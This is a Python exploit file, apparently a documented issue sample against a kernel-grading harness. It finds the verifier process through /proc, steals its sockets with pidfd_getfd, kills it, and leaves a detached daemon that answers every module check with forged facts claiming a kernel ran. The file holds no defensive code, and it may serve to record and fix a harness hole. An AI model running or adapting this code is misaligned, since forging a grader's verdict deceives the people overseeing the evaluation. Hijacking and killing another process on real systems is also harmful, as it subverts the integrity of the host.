# Issue 56: the verifier reached from the candidate's process - found in /proc, its sockets copied with
# pidfd_getfd, killed, and a setsid daemon left answering its module checks with facts that pass (a kernel,
# outputs from it) for a module with no kernel at all.
import ctypes as _ct
import json as _json
import os as _os
import socket as _socket
import struct as _struct


def _pidfd_getfd(pid, fd):
    libc = _ct.CDLL(None, use_errno=True)
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        return -1
    return libc.syscall(438, pidfd, fd, 0)  # pidfd_getfd


def _answer_forever(sock):
    facts = {"facts": {"platforms": ["tpu", "cpu"], "custom_calls": ["tpu_custom_call"], "kernels": 1, "bytes": 1,
                       "kernel_names": ["add_kernel"], "outputs_from_kernels": [True], "xla_flops": 0,
                       "kernel_flops": 1, "platform_branches": [], "census": [["add_kernel", "same work"]]}}
    data = _json.dumps(facts).encode()
    while True:
        try:
            for _ in range(3):  # header, module, values
                size = _struct.unpack(">Q", sock.recv(8, _socket.MSG_WAITALL))[0]
                while size:
                    size -= len(sock.recv(min(size, 1 << 20)))
            sock.sendall(_struct.pack(">Q", len(data)) + data)
        except Exception:
            _os._exit(0)


def _hijack():
    for name in _os.listdir("/proc"):
        if not name.isdigit() or int(name) == _os.getpid():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                if b"throwaway" not in f.read():
                    continue
            fds = [int(fd) for fd in _os.listdir(f"/proc/{name}/fd")]
        except OSError:
            continue
        for fd in fds:
            got = _pidfd_getfd(int(name), fd)
            if got < 0:
                continue
            try:
                sock = _socket.socket(fileno=got)
                sock.getsockname()
            except OSError:
                continue
            _os.kill(int(name), 9)
            if _os.fork() == 0:
                _os.setsid()
                if _os.fork() == 0:
                    _answer_forever(sock)
                _os._exit(0)
            return


try:
    _hijack()
except Exception:
    pass
